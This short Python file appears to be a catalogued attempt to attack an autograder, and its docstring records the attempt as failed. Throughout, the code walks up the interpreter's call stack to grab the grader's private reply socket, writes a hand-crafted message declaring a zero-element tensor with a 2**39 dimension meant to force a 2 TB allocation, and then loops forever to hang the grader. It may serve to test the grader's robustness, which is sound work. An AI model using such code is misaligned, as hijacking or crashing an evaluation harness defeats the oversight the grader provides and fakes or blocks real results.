"""Return a tensor without elements and with huge dimensions.

Tries: shape [0, 2**39], so that a sum over the first dimension needs 2 TB.
Success: the grader allocates it.
Outcome: failed.
"""

import sys

import msgpack

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    tensor = ["t", "float32", [0, 1 << 39], [0, 0], False]
    channel().sendall(frame_of(msgpack.packb(["u", [tensor, None, ["u", []], "", ""]])))
    while True:
        pass
